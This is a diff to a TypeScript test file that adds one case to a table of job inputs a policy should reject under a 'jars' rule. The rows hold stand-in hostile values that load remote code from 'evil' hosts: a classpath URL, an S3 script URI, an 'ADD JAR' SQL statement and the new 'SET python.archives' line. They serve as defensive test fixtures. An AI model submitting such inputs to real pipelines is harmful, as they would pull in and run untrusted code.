@@ -34,6 +34,7 @@ const rows: readonly (readonly [data: object, pointer: string, rule: string, pol
   [{ jar, config: { 'pipeline.classpaths': 'https://evil.example/a.jar' } }, '/config/pipeline.classpaths', 'jars', {}],
   [{ sql: { scriptUri: 's3://evil/a.sql' } }, '/sql/scriptUri', 'jars', {}],
   [{ sql: { script: "ADD JAR 's3://evil/a.jar'; INSERT INTO a SELECT 1" } }, '/sql/script', 'jars', {}],
+  [{ sql: { script: "SET 'python.archives' = 's3://evil/a.zip'" } }, '/sql/script', 'jars', {}],
 ];
 
 describe.each(origins)('the policy of a target, for a job on a session from %s', (_origin, send) => {
